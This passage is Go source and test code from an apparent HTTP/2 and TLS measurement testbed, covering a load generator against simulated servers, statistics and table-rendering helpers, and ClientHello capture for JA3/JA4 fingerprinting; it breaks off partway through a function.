		r.LatencyQuantile(0.50), r.LatencyQuantile(0.95), r.LatencyQuantile(0.99))
}

func byteCount(n int64) string {
	switch {
	case n >= 1<<20:
		return fmt.Sprintf("%.1f MiB", float64(n)/(1<<20))
	case n >= 1<<10:
		return fmt.Sprintf("%.1f KiB", float64(n)/(1<<10))
	default:
		return fmt.Sprintf("%d B", n)
	}
}

// loadMetrics is the h2_load_* instrument set, built once per Run.
type loadMetrics struct {
	conn     *h2conn.Metrics
	requests *metrics.Counter
	errors   *metrics.Counter
	bytes    *metrics.Counter
	latency  *metrics.Histogram
}

func newLoadMetrics(r *metrics.Registry) *loadMetrics {
	return &loadMetrics{
		conn:     h2conn.NewMetrics(r),
		requests: r.Counter("h2_load_requests_total", "successful load-generator requests"),
		errors:   r.Counter("h2_load_errors_total", "failed load-generator requests (transport errors, resets, non-200s)"),
		bytes:    r.Counter("h2_load_body_bytes_total", "response body octets read by the load generator"),
		latency: r.Histogram("h2_load_request_latency_ns",
			"load-generator request latency", int64(time.Microsecond), metrics.DefaultBuckets),
	}
}

// Run drives the load and blocks until the quota is spent.
func Run(dial func() (net.Conn, error), opts Options) (*Result, error) {
	opts = opts.withDefaults()
	var lm *loadMetrics
	if opts.Metrics != nil {
		lm = newLoadMetrics(opts.Metrics)
	}

	// The quota is distributed over a shared ticket channel so fast
	// connections take more.
	tickets := make(chan struct{}, opts.Requests)
	for i := 0; i < opts.Requests; i++ {
		tickets <- struct{}{}
	}
	close(tickets)

	var (
		mu     sync.Mutex
		res    = &Result{}
		wg     sync.WaitGroup
		dialMu sync.Mutex
		errs   []error
	)
	recordErr := func(err error) {
		mu.Lock()
		res.Errors++
		if err != nil && len(errs) < 4 {
			errs = append(errs, err)
		}
		mu.Unlock()
		if lm != nil {
			lm.errors.Inc()
		}
	}
	start := time.Now()
	for c := 0; c < opts.Connections; c++ {
		nc, err := dial()
		if err != nil {
			return nil, fmt.Errorf("h2load: dial connection %d: %w", c, err)
		}
		connOpts := h2conn.DefaultOptions()
		// Long-lived connections issue thousands of requests; bound the
		// event log so memory and per-request cost stay flat. Keep enough
		// headroom that one batch's events can never straddle a trim.
		connOpts.EventLogLimit = 4096
		if limit := 16 * opts.StreamsPerConn; limit > connOpts.EventLogLimit {
			connOpts.EventLogLimit = limit
		}
		if lm != nil {
			connOpts.Metrics = lm.conn
		}
		conn, err := h2conn.Dial(nc, connOpts)
		if err != nil {
			_ = nc.Close()
			return nil, fmt.Errorf("h2load: handshake %d: %w", c, err)
		}
		// One driver per connection submits requests in batches of up to
		// StreamsPerConn — nghttp2-style: the whole batch of HEADERS frames
		// coalesces into a single write, then the driver waits for all its
		// streams to complete before drawing the next batch of tickets.
		wg.Add(1)
		go func(conn *h2conn.Conn) {
			defer wg.Done()
			req := h2conn.Request{Authority: opts.Authority, Path: opts.Path}
			reqs := make([]h2conn.Request, 0, opts.StreamsPerConn)
			for {
				reqs = reqs[:0]
				for len(reqs) < opts.StreamsPerConn {
					if _, ok := <-tickets; !ok {
						break
					}
					reqs = append(reqs, req)
				}
				if len(reqs) == 0 {
					return
				}
				t0 := time.Now()
				ids, err := conn.OpenStreams(reqs)
				for i := len(ids); i < len(reqs); i++ {
					recordErr(err)
				}
				if len(ids) == 0 {
					return
				}
				events, werr := conn.WaitFor(opts.Timeout, func(evs []h2conn.Event) bool {
					return streamsEnded(evs, ids) == len(ids)
				})
				for _, id := range ids {
					resp := h2conn.AssembleResponse(events, id)
					finished := resp.EndStream || resp.Reset != nil
					ok := finished && resp.Reset == nil && resp.Status() == "200"
					lat := streamLatency(events, id, t0)
					if lm != nil {
						lm.latency.Observe(int64(lat))
					}
					if !ok {
						if finished {
							recordErr(nil)
						} else {
							recordErr(werr)
						}
						continue
					}
					if lm != nil {
						lm.requests.Inc()
						lm.bytes.Add(int64(len(resp.Body)))
					}
					mu.Lock()
					res.Requests++
					res.BytesRead += int64(len(resp.Body))
					res.latencies = append(res.latencies, lat)
					mu.Unlock()
				}
				if werr != nil && errors.Is(werr, h2conn.ErrConnClosed) {
					return
				}
			}
		}(conn)
		// Close connections once all drivers drain; closing is deferred to
		// run end so late GOAWAY exchanges stay observable.
		defer func(conn *h2conn.Conn) {
			dialMu.Lock()
			defer dialMu.Unlock()
			_ = conn.Close()
		}(conn)
	}
	wg.Wait()
	res.Duration = time.Since(start)
	sort.Slice(res.latencies, func(i, j int) bool { return res.latencies[i] < res.latencies[j] })
	if res.Requests == 0 && len(errs) > 0 {
		return res, fmt.Errorf("h2load: all requests failed, first error: %w", errs[0])
	}
	return res, nil
}
