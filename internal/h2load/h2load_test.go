package h2load_test

import (
	"net"
	"strings"
	"testing"
	"time"

	"h2scope/internal/h2load"
	"h2scope/internal/metrics"
	"h2scope/internal/netsim"
	"h2scope/internal/server"
)

func startTarget(t *testing.T, p server.Profile) func() (net.Conn, error) {
	t.Helper()
	srv := server.New(p, server.DefaultSite("load.example"))
	l := netsim.NewListener("h2load")
	go func() {
		_ = srv.Serve(l)
	}()
	t.Cleanup(srv.Close)
	return func() (net.Conn, error) { return l.Dial() }
}

func TestRunMeetsQuota(t *testing.T) {
	dial := startTarget(t, server.H2OProfile())
	res, err := h2load.Run(dial, h2load.Options{
		Connections:    2,
		StreamsPerConn: 4,
		Requests:       200,
		Authority:      "load.example",
		Path:           "/about.html",
	})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Requests != 200 || res.Errors != 0 {
		t.Fatalf("requests=%d errors=%d, want 200/0", res.Requests, res.Errors)
	}
	if res.BytesRead == 0 {
		t.Error("BytesRead = 0")
	}
	if res.RequestsPerSecond() <= 0 {
		t.Error("RequestsPerSecond <= 0")
	}
	p50, p99 := res.LatencyQuantile(0.5), res.LatencyQuantile(0.99)
	if p50 <= 0 || p99 < p50 {
		t.Errorf("latency p50=%v p99=%v", p50, p99)
	}
	if out := res.String(); !strings.Contains(out, "req/s") {
		t.Errorf("summary = %q", out)
	}
}

func TestRunCounts404AsError(t *testing.T) {
	dial := startTarget(t, server.NginxProfile())
	res, err := h2load.Run(dial, h2load.Options{
		Requests:  10,
		Authority: "load.example",
		Path:      "/does-not-exist",
	})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Errors != 10 || res.Requests != 0 {
		t.Fatalf("requests=%d errors=%d, want 0/10", res.Requests, res.Errors)
	}
}

func TestRunDialFailure(t *testing.T) {
	dial := func() (net.Conn, error) { return nil, net.ErrClosed }
	if _, err := h2load.Run(dial, h2load.Options{Requests: 1}); err == nil {
		t.Fatal("Run with failing dialer succeeded")
	}
}

func TestRunDefaults(t *testing.T) {
	dial := startTarget(t, server.ApacheProfile())
	res, err := h2load.Run(dial, h2load.Options{Authority: "load.example", Timeout: 5 * time.Second})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Requests != 100 { // default quota
		t.Fatalf("requests = %d, want default 100", res.Requests)
	}
}

// TestRunInstrumented checks the h2_load_* mirror agrees with the exact
// per-run Result and that the shared connection set saw the dialed conns.
func TestRunInstrumented(t *testing.T) {
	dial := startTarget(t, server.H2OProfile())
	r := metrics.NewRegistry()
	res, err := h2load.Run(dial, h2load.Options{
		Connections:    2,
		StreamsPerConn: 2,
		Requests:       40,
		Authority:      "load.example",
		Path:           "/about.html",
		Metrics:        r,
	})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	want := map[string]int64{
		"h2_load_requests_total":   int64(res.Requests),
		"h2_load_errors_total":     int64(res.Errors),
		"h2_load_body_bytes_total": res.BytesRead,
		"h2_load_conns_total":      2,
	}
	got := make(map[string]int64)
	var latencyCount int64
	for _, m := range r.Snapshot() {
		got[m.Name] = m.Value
		if m.Name == "h2_load_request_latency_ns" && m.Histogram != nil {
			latencyCount = m.Histogram.Count
		}
	}
	for name, v := range want {
		if got[name] != v {
			t.Errorf("%s = %d, want %d", name, got[name], v)
		}
	}
	if latencyCount != int64(res.Requests+res.Errors) {
		t.Errorf("latency histogram count = %d, want %d", latencyCount, res.Requests+res.Errors)
	}
}

// BenchmarkLoadThroughput measures end-to-end request throughput over the
// in-process network: batched request submission (OpenStreams) plus write
// coalescing on both sides makes this the macro-benchmark for the frame and
// HPACK hot paths working together.
func BenchmarkLoadThroughput(b *testing.B) {
	srv := server.New(server.NghttpdProfile(), server.DefaultSite("load.example"))
	l := netsim.NewListener("h2load-bench")
	go func() {
		_ = srv.Serve(l)
	}()
	defer srv.Close()
	dial := func() (net.Conn, error) { return l.Dial() }

	b.ReportAllocs()
	b.ResetTimer()
	total := 0
	for i := 0; i < b.N; i++ {
		res, err := h2load.Run(dial, h2load.Options{
			Connections:    2,
			StreamsPerConn: 8,
			Requests:       64,
			Authority:      "load.example",
			Path:           "/static/style.css",
			Timeout:        10 * time.Second,
		})
		if err != nil {
			b.Fatalf("Run: %v", err)
		}
		if res.Errors > 0 {
			b.Fatalf("%d failed requests", res.Errors)
		}
		total += res.Requests
	}
	b.StopTimer()
	b.ReportMetric(float64(total)/b.Elapsed().Seconds(), "req/s")
}
