// Package stats provides the small statistical and rendering toolkit the
// measurement harness uses: empirical CDFs (every figure in the paper's
// evaluation is a CDF or a distribution table), quantiles, and fixed-width
// table formatting for terminal output.
package stats

import (
	"fmt"
	"sort"
	"strings"
)

// CDF is an empirical cumulative distribution over float64 samples.
type CDF struct {
	sorted []float64
}

// NewCDF builds a CDF from samples (copied and sorted).
func NewCDF(samples []float64) *CDF {
	s := append([]float64(nil), samples...)
	sort.Float64s(s)
	return &CDF{sorted: s}
}

// Len returns the sample count.
func (c *CDF) Len() int { return len(c.sorted) }

// At returns P(X <= x).
func (c *CDF) At(x float64) float64 {
	if len(c.sorted) == 0 {
		return 0
	}
	i := sort.SearchFloat64s(c.sorted, x)
	// Include equal samples.
	for i < len(c.sorted) && c.sorted[i] <= x {
		i++
	}
	return float64(i) / float64(len(c.sorted))
}

// Quantile returns the q-quantile (0 <= q <= 1) by nearest-rank.
func (c *CDF) Quantile(q float64) float64 {
	if len(c.sorted) == 0 {
		return 0
	}
	if q <= 0 {
		return c.sorted[0]
	}
	if q >= 1 {
		return c.sorted[len(c.sorted)-1]
	}
	idx := int(q * float64(len(c.sorted)))
	if idx >= len(c.sorted) {
		idx = len(c.sorted) - 1
	}
	return c.sorted[idx]
}

// Point is one (x, P(X<=x)) pair of a rendered CDF series.
type Point struct {
	X float64
	P float64
}

// Points samples the CDF at n evenly spaced probability levels, producing a
// plottable series equivalent to the paper's figure curves.
func (c *CDF) Points(n int) []Point {
	if len(c.sorted) == 0 || n < 2 {
		return nil
	}
	out := make([]Point, 0, n)
	for i := 0; i < n; i++ {
		q := float64(i) / float64(n-1)
		out = append(out, Point{X: c.Quantile(q), P: q})
	}
	return out
}

// Mean returns the sample mean.
func (c *CDF) Mean() float64 {
	if len(c.sorted) == 0 {
		return 0
	}
	var sum float64
	for _, v := range c.sorted {
		sum += v
	}
	return sum / float64(len(c.sorted))
}

// FormatTable renders a fixed-width text table.
func FormatTable(headers []string, rows [][]string) string {
	widths := make([]int, len(headers))
	for i, h := range headers {
		widths[i] = len(h)
	}
	for _, row := range rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	var b strings.Builder
	writeRow := func(cells []string) {
		for i, cell := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[i], cell)
		}
		b.WriteByte('\n')
	}
	writeRow(headers)
	sep := make([]string, len(headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	writeRow(sep)
	for _, row := range rows {
		writeRow(row)
	}
	return b.String()
}

// Histogram renders an ASCII bar chart of labeled counts, largest bar
// scaled to width.
func Histogram(labels []string, counts []int, width int) string {
	if width < 10 {
		width = 10
	}
	maxCount := 0
	maxLabel := 0
	for i, c := range counts {
		if c > maxCount {
			maxCount = c
		}
		if len(labels[i]) > maxLabel {
			maxLabel = len(labels[i])
		}
	}
	var b strings.Builder
	for i, c := range counts {
		bar := 0
		if maxCount > 0 {
			bar = c * width / maxCount
		}
		fmt.Fprintf(&b, "%-*s | %-*s %d\n", maxLabel, labels[i], width, strings.Repeat("#", bar), c)
	}
	return b.String()
}

// AsciiCDF renders one or more CDF series as a rough terminal plot: rows
// are probability levels, columns the series' x-values at that level.
func AsciiCDF(names []string, cdfs []*CDF, levels []float64, format string) string {
	headers := append([]string{"CDF"}, names...)
	rows := make([][]string, 0, len(levels))
	for _, q := range levels {
		row := []string{fmt.Sprintf("%.2f", q)}
		for _, c := range cdfs {
			row = append(row, fmt.Sprintf(format, c.Quantile(q)))
		}
		rows = append(rows, row)
	}
	return FormatTable(headers, rows)
}
