package stats

import (
	"math"
	"sort"
	"strings"
	"testing"
	"testing/quick"
)

func TestCDFBasics(t *testing.T) {
	c := NewCDF([]float64{1, 2, 3, 4})
	if c.Len() != 4 {
		t.Fatalf("Len = %d", c.Len())
	}
	if got := c.At(0); got != 0 {
		t.Errorf("At(0) = %v, want 0", got)
	}
	if got := c.At(2); got != 0.5 {
		t.Errorf("At(2) = %v, want 0.5", got)
	}
	if got := c.At(4); got != 1 {
		t.Errorf("At(4) = %v, want 1", got)
	}
	if got := c.At(100); got != 1 {
		t.Errorf("At(100) = %v, want 1", got)
	}
	if got := c.Mean(); got != 2.5 {
		t.Errorf("Mean = %v, want 2.5", got)
	}
}

func TestQuantile(t *testing.T) {
	samples := make([]float64, 100)
	for i := range samples {
		samples[i] = float64(i)
	}
	c := NewCDF(samples)
	if got := c.Quantile(0); got != 0 {
		t.Errorf("Quantile(0) = %v", got)
	}
	if got := c.Quantile(0.5); got != 50 {
		t.Errorf("Quantile(0.5) = %v, want 50", got)
	}
	if got := c.Quantile(1); got != 99 {
		t.Errorf("Quantile(1) = %v, want 99", got)
	}
}

func TestEmptyCDF(t *testing.T) {
	c := NewCDF(nil)
	if c.At(1) != 0 || c.Quantile(0.5) != 0 || c.Mean() != 0 {
		t.Error("empty CDF not zero-valued")
	}
	if pts := c.Points(5); pts != nil {
		t.Errorf("Points on empty CDF = %v", pts)
	}
}

func TestPointsMonotonic(t *testing.T) {
	prop := func(raw []float64) bool {
		clean := raw[:0]
		for _, v := range raw {
			if !math.IsNaN(v) && !math.IsInf(v, 0) {
				clean = append(clean, v)
			}
		}
		if len(clean) == 0 {
			return true
		}
		pts := NewCDF(clean).Points(10)
		return sort.SliceIsSorted(pts, func(i, j int) bool {
			if pts[i].X != pts[j].X {
				return pts[i].X < pts[j].X
			}
			return pts[i].P < pts[j].P
		})
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestNewCDFDoesNotMutateInput(t *testing.T) {
	in := []float64{3, 1, 2}
	_ = NewCDF(in)
	if in[0] != 3 || in[1] != 1 || in[2] != 2 {
		t.Errorf("input mutated: %v", in)
	}
}

func TestFormatTable(t *testing.T) {
	out := FormatTable([]string{"name", "count"}, [][]string{
		{"nginx", "27394"},
		{"LiteSpeed", "13626"},
	})
	if !strings.Contains(out, "nginx") || !strings.Contains(out, "13626") {
		t.Errorf("table missing content:\n%s", out)
	}
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 4 {
		t.Errorf("table has %d lines, want 4", len(lines))
	}
}

func TestHistogram(t *testing.T) {
	out := Histogram([]string{"a", "bb"}, []int{10, 5}, 20)
	if !strings.Contains(out, "####") {
		t.Errorf("histogram missing bars:\n%s", out)
	}
	if !strings.Contains(out, "10") || !strings.Contains(out, "5") {
		t.Errorf("histogram missing counts:\n%s", out)
	}
}

func TestAsciiCDF(t *testing.T) {
	c1 := NewCDF([]float64{1, 2, 3})
	c2 := NewCDF([]float64{10, 20, 30})
	out := AsciiCDF([]string{"small", "big"}, []*CDF{c1, c2}, []float64{0, 0.5, 1}, "%.1f")
	if !strings.Contains(out, "small") || !strings.Contains(out, "30.0") {
		t.Errorf("AsciiCDF output:\n%s", out)
	}
}
