package tlsutil

import (
	"bytes"
	"crypto/tls"
	"io"
	"testing"
	"time"

	"h2scope/internal/fingerprint"
	"h2scope/internal/netsim"
)

// fingerprintHandshake runs one full TLS handshake over a netsim pipe
// with the given server-side conn factory and returns the hello each
// path recovered.
func testCert(t *testing.T) tls.Certificate {
	t.Helper()
	cert, err := SelfSignedCert("testbed.example")
	if err != nil {
		t.Fatalf("cert: %v", err)
	}
	return cert
}

// TestPreParseAndCaptureYieldIdenticalJA3 is the regression test for the
// two observation paths: the raw record pre-parse and the
// GetConfigForClient capture must fingerprint the same live Go
// ClientHello to the same JA3 (and JA4).
func TestPreParseAndCaptureYieldIdenticalJA3(t *testing.T) {
	cert := testCert(t)
	clientCfg := ClientConfig("testbed.example")

	// Path A: raw pre-parse via the peek wrapper.
	clientA, serverA := netsim.Pipe()
	wrapped, helloFn := PeekClientHello(serverA)
	doneA := make(chan error, 1)
	go func() {
		doneA <- tls.Server(wrapped, ServerConfig(cert, true)).Handshake()
	}()
	if err := tls.Client(clientA, clientCfg).Handshake(); err != nil {
		t.Fatalf("client A handshake: %v", err)
	}
	if err := <-doneA; err != nil {
		t.Fatalf("server A handshake: %v", err)
	}
	preParsed := helloFn()
	if preParsed == nil {
		t.Fatal("pre-parse path recovered no ClientHello")
	}

	// Path B: GetConfigForClient capture on an unwrapped tls.Server.
	capCfg, capture := NewHelloCapture(ServerConfig(cert, true))
	clientB, serverB := netsim.Pipe()
	doneB := make(chan error, 1)
	go func() {
		doneB <- tls.Server(serverB, capCfg).Handshake()
	}()
	if err := tls.Client(clientB, clientCfg).Handshake(); err != nil {
		t.Fatalf("client B handshake: %v", err)
	}
	if err := <-doneB; err != nil {
		t.Fatalf("server B handshake: %v", err)
	}
	captured := capture.Hello(serverB)
	if captured == nil {
		t.Fatal("capture path recovered no ClientHello")
	}

	if a, b := preParsed.JA3(), captured.JA3(); a != b {
		t.Errorf("JA3 differs across paths\npre-parse: %s\ncapture:   %s", a, b)
	}
	if a, b := preParsed.JA3Hash(), captured.JA3Hash(); a != b {
		t.Errorf("JA3 hash differs across paths: %s vs %s", a, b)
	}
	if a, b := preParsed.JA4(), captured.JA4(); a != b {
		t.Errorf("JA4 differs across paths\npre-parse: %s\ncapture:   %s", a, b)
	}
	if preParsed.ServerName != "testbed.example" {
		t.Errorf("pre-parsed SNI = %q, want testbed.example", preParsed.ServerName)
	}
	if !preParsed.SupportsH2() {
		t.Error("pre-parsed hello does not offer h2")
	}

	capture.Forget(serverB)
	if capture.Hello(serverB) != nil {
		t.Error("Forget did not drop the capture")
	}
}

// TestFingerprintListenerServesHelloConn checks the listener wrapper
// end-to-end: accepted conns implement HelloConn, the handshake
// completes, and application bytes flow untouched.
func TestFingerprintListenerServesHelloConn(t *testing.T) {
	cert := testCert(t)
	inner := netsim.NewListener("fp-listener")
	l := NewFingerprintListener(inner, ServerConfig(cert, true))
	defer func() { _ = l.Close() }()

	serverDone := make(chan error, 1)
	var gotHello *fingerprint.ClientHello
	go func() {
		nc, err := l.Accept()
		if err != nil {
			serverDone <- err
			return
		}
		buf := make([]byte, 5)
		if _, err := io.ReadFull(nc, buf); err != nil {
			serverDone <- err
			return
		}
		gotHello = nc.(HelloConn).ClientHello()
		_, err = nc.Write(bytes.ToUpper(buf))
		serverDone <- err
	}()

	nc, err := inner.Dial()
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	proto, tc, err := NegotiateALPN(nc, "testbed.example")
	if err != nil {
		t.Fatalf("negotiate: %v", err)
	}
	if proto != ProtoH2 {
		t.Fatalf("negotiated %q, want h2", proto)
	}
	if _, err := tc.Write([]byte("hello")); err != nil {
		t.Fatalf("write: %v", err)
	}
	reply := make([]byte, 5)
	if _, err := io.ReadFull(tc, reply); err != nil {
		t.Fatalf("read: %v", err)
	}
	if string(reply) != "HELLO" {
		t.Fatalf("reply = %q, want HELLO", reply)
	}
	if err := <-serverDone; err != nil {
		t.Fatalf("server: %v", err)
	}
	if gotHello == nil {
		t.Fatal("accepted conn carried no ClientHello")
	}
	if gotHello.ServerName != "testbed.example" || !gotHello.SupportsH2() {
		t.Errorf("hello = %v, want SNI testbed.example offering h2", gotHello)
	}
}

// TestPeekReplaysNonTLSBytes: a peeked conn carrying something other
// than TLS must deliver every byte unmodified to the reader.
func TestPeekReplaysNonTLSBytes(t *testing.T) {
	client, server := netsim.Pipe()
	payload := []byte("GET / HTTP/1.1\r\nHost: x\r\n\r\n")
	go func() {
		_, _ = client.Write(payload)
		_ = client.Close()
	}()
	wrapped, hello := PeekClientHello(server)
	_ = server.SetReadDeadline(time.Now().Add(5 * time.Second))
	got, err := io.ReadAll(wrapped)
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	if !bytes.Equal(got, payload) {
		t.Errorf("replayed %q, want %q", got, payload)
	}
	if hello() != nil {
		t.Error("non-TLS bytes produced a ClientHello")
	}
}

// TestPeekReplaysTruncatedHandshake: a client that opens a handshake
// record and hangs up mid-hello must still have its bytes replayed.
func TestPeekReplaysTruncatedHandshake(t *testing.T) {
	client, server := netsim.Pipe()
	partial := []byte{0x16, 0x03, 0x01, 0x00, 0x40, 0x01, 0x00, 0x00, 0x80, 0x03, 0x03}
	go func() {
		_, _ = client.Write(partial)
		_ = client.Close()
	}()
	wrapped, hello := PeekClientHello(server)
	_ = server.SetReadDeadline(time.Now().Add(5 * time.Second))
	got, err := io.ReadAll(wrapped)
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	if !bytes.Equal(got, partial) {
		t.Errorf("replayed % x, want % x", got, partial)
	}
	if hello() != nil {
		t.Error("truncated handshake produced a ClientHello")
	}
}
