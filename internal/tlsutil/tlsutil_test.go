package tlsutil

import (
	"crypto/tls"
	"testing"

	"h2scope/internal/netsim"
)

func handshake(t *testing.T, serverCfg *tls.Config, protos ...string) string {
	t.Helper()
	clientNC, serverNC := netsim.Pipe()
	done := make(chan error, 1)
	var serverConn *tls.Conn
	go func() {
		serverConn = tls.Server(serverNC, serverCfg)
		done <- serverConn.Handshake()
	}()
	proto, tc, err := NegotiateALPN(clientNC, "testbed.example", protos...)
	if err != nil {
		t.Fatalf("client handshake: %v", err)
	}
	if err := <-done; err != nil {
		t.Fatalf("server handshake: %v", err)
	}
	t.Cleanup(func() {
		_ = tc.Close()
		_ = serverConn.Close()
	})
	return proto
}

func TestALPNSelectsH2(t *testing.T) {
	cert, err := SelfSignedCert("testbed.example")
	if err != nil {
		t.Fatalf("SelfSignedCert: %v", err)
	}
	proto := handshake(t, ServerConfig(cert, true))
	if proto != ProtoH2 {
		t.Fatalf("negotiated %q, want %q", proto, ProtoH2)
	}
}

func TestNoALPNWhenServerLacksSupport(t *testing.T) {
	cert, err := SelfSignedCert("testbed.example")
	if err != nil {
		t.Fatalf("SelfSignedCert: %v", err)
	}
	proto := handshake(t, ServerConfig(cert, false))
	if proto != "" {
		t.Fatalf("negotiated %q, want none", proto)
	}
}

func TestALPNFallbackToHTTP11(t *testing.T) {
	cert, err := SelfSignedCert("testbed.example")
	if err != nil {
		t.Fatalf("SelfSignedCert: %v", err)
	}
	// Client only offers http/1.1; an h2-capable server must pick it.
	proto := handshake(t, ServerConfig(cert, true), ProtoHTTP11)
	if proto != ProtoHTTP11 {
		t.Fatalf("negotiated %q, want %q", proto, ProtoHTTP11)
	}
}

func TestSelfSignedCertCoversHostsAndIPs(t *testing.T) {
	cert, err := SelfSignedCert("a.example", "127.0.0.1")
	if err != nil {
		t.Fatalf("SelfSignedCert: %v", err)
	}
	if len(cert.Certificate) != 1 {
		t.Fatalf("certificate chain length %d, want 1", len(cert.Certificate))
	}
}
