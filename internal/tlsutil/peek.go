package tlsutil

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"

	"h2scope/internal/fingerprint"
)

// This file gives the testbed server sight of the ClientHello, two ways:
//
//   - the pre-parse path: a buffered net.Conn wrapper reads the raw TLS
//     record(s) of the ClientHello before crypto/tls does, parses them
//     with internal/fingerprint, then replays every byte so the
//     handshake proceeds untouched (NewFingerprintListener);
//   - the capture path: a tls.Config.GetConfigForClient hook that
//     records crypto/tls's own parse of the hello, for deployments that
//     wrap listeners in ways that bypass the raw pre-parse (HelloCapture).
//
// Both paths produce the same JA3 (proven by a regression test); the
// pre-parse additionally sees GREASE values and exact extension bytes,
// which JA4 wants and ClientHelloInfo partially normalizes away.

// peek limits: a ClientHello larger than this is not a browser, and not
// worth buffering.
const (
	maxPeekRecords = 8
	maxPeekBytes   = 64 << 10
)

// peekConn wraps a raw accepted conn. On the first Read — which under
// tls.Server happens on the serving goroutine, keeping Accept loops
// non-blocking — it slurps the ClientHello record(s), parses them, and
// then replays the buffered bytes before resuming pass-through reads.
type peekConn struct {
	net.Conn
	once   sync.Once
	replay []byte

	mu    sync.Mutex
	hello *fingerprint.ClientHello
}

// Read performs the lazy peek, then drains the replay buffer before
// delegating to the underlying conn.
func (c *peekConn) Read(p []byte) (int, error) {
	c.once.Do(c.peek)
	if len(c.replay) > 0 {
		n := copy(p, c.replay)
		c.replay = c.replay[n:]
		return n, nil
	}
	return c.Conn.Read(p)
}

// Hello returns the pre-parsed ClientHello, nil until the peek has run
// or when the bytes did not parse as one.
func (c *peekConn) Hello() *fingerprint.ClientHello {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.hello
}

// peek reads whole TLS records until the ClientHello parses, a bound
// trips, or the bytes stop looking like a TLS handshake. Every byte read
// lands in the replay buffer first, so a failed peek never corrupts the
// stream — crypto/tls just sees the same bytes and produces its own
// error (or proceeds, for handshakes we merely failed to fingerprint).
func (c *peekConn) peek() {
	var buf []byte
	for rec := 0; rec < maxPeekRecords && len(buf) < maxPeekBytes; rec++ {
		hdr := len(buf)
		buf = append(buf, 0, 0, 0, 0, 0)
		if n, err := io.ReadFull(c.Conn, buf[hdr:]); err != nil {
			c.replay = buf[:hdr+n] // keep partial reads: replay must be lossless
			return
		}
		if buf[hdr] != 0x16 {
			c.replay = buf
			return
		}
		n := int(buf[hdr+3])<<8 | int(buf[hdr+4])
		payload := len(buf)
		buf = append(buf, make([]byte, n)...)
		if rn, err := io.ReadFull(c.Conn, buf[payload:]); err != nil {
			c.replay = buf[:payload+rn]
			return
		}
		hello, err := fingerprint.ParseClientHello(buf)
		if err == nil {
			c.mu.Lock()
			c.hello = hello
			c.mu.Unlock()
			break
		}
		if err != fingerprint.ErrTruncated {
			break // structurally not a ClientHello; stop buffering
		}
	}
	c.replay = buf
}

// PeekClientHello wraps nc so that its TLS ClientHello is parsed on
// first read and every byte is replayed to the eventual reader. The
// returned accessor yields the hello once available (nil before the
// first read, or if parsing failed).
func PeekClientHello(nc net.Conn) (wrapped net.Conn, hello func() *fingerprint.ClientHello) {
	pc := &peekConn{Conn: nc}
	return pc, pc.Hello
}

// Conn is a fingerprint-aware TLS server connection.
type Conn struct {
	*tls.Conn
	hello func() *fingerprint.ClientHello
}

// ClientHello returns the connection's pre-parsed ClientHello, or nil if
// none was recoverable.
func (c *Conn) ClientHello() *fingerprint.ClientHello {
	if c.hello == nil {
		return nil
	}
	return c.hello()
}

// HelloConn is implemented by connections that can surface the TLS
// ClientHello they were opened with; the server type-asserts against it.
type HelloConn interface {
	ClientHello() *fingerprint.ClientHello
}

// fingerprintListener wraps Accept with the ClientHello pre-parse.
type fingerprintListener struct {
	net.Listener
	cfg *tls.Config
}

// NewFingerprintListener returns a TLS listener whose accepted
// connections implement HelloConn: each conn's ClientHello is pre-parsed
// (lazily, on the serving goroutine's first read) before crypto/tls
// consumes it. It is the fingerprinting replacement for tls.NewListener.
func NewFingerprintListener(l net.Listener, cfg *tls.Config) net.Listener {
	return &fingerprintListener{Listener: l, cfg: cfg}
}

// Accept wraps the raw conn with the peek layer and the TLS server.
func (l *fingerprintListener) Accept() (net.Conn, error) {
	nc, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	wrapped, hello := PeekClientHello(nc)
	return &Conn{Conn: tls.Server(wrapped, l.cfg), hello: hello}, nil
}

// HelloCapture records crypto/tls's parse of each connection's
// ClientHello via GetConfigForClient — the fallback fingerprint source
// when a deployment's listener stack bypasses the raw pre-parse.
type HelloCapture struct {
	mu sync.Mutex
	m  map[net.Conn]*fingerprint.ClientHello
}

// NewHelloCapture clones cfg with the capture hook installed and returns
// the capture alongside it. Any existing GetConfigForClient is chained.
func NewHelloCapture(cfg *tls.Config) (*tls.Config, *HelloCapture) {
	hc := &HelloCapture{m: make(map[net.Conn]*fingerprint.ClientHello)}
	out := cfg.Clone()
	prev := out.GetConfigForClient
	out.GetConfigForClient = func(chi *tls.ClientHelloInfo) (*tls.Config, error) {
		hc.mu.Lock()
		hc.m[chi.Conn] = HelloFromInfo(chi)
		hc.mu.Unlock()
		if prev != nil {
			return prev(chi)
		}
		return nil, nil
	}
	return out, hc
}

// Hello returns the captured hello for the raw conn underlying a TLS
// server connection, nil if the handshake has not reached the hello yet.
func (hc *HelloCapture) Hello(nc net.Conn) *fingerprint.ClientHello {
	hc.mu.Lock()
	defer hc.mu.Unlock()
	return hc.m[nc]
}

// Forget drops the capture for nc; call when the connection closes to
// keep the map bounded.
func (hc *HelloCapture) Forget(nc net.Conn) {
	hc.mu.Lock()
	defer hc.mu.Unlock()
	delete(hc.m, nc)
}

// HelloFromInfo reconstructs a fingerprint.ClientHello from crypto/tls's
// ClientHelloInfo. The legacy_version field is not surfaced by
// crypto/tls; it is recovered as TLS 1.2 whenever the client negotiates
// TLS 1.2 or newer — exactly what RFC 8446 requires clients to send —
// so JA3 output matches the raw pre-parse for all modern hellos.
func HelloFromInfo(chi *tls.ClientHelloInfo) *fingerprint.ClientHello {
	hello := &fingerprint.ClientHello{
		Version:      0x0303,
		ServerName:   chi.ServerName,
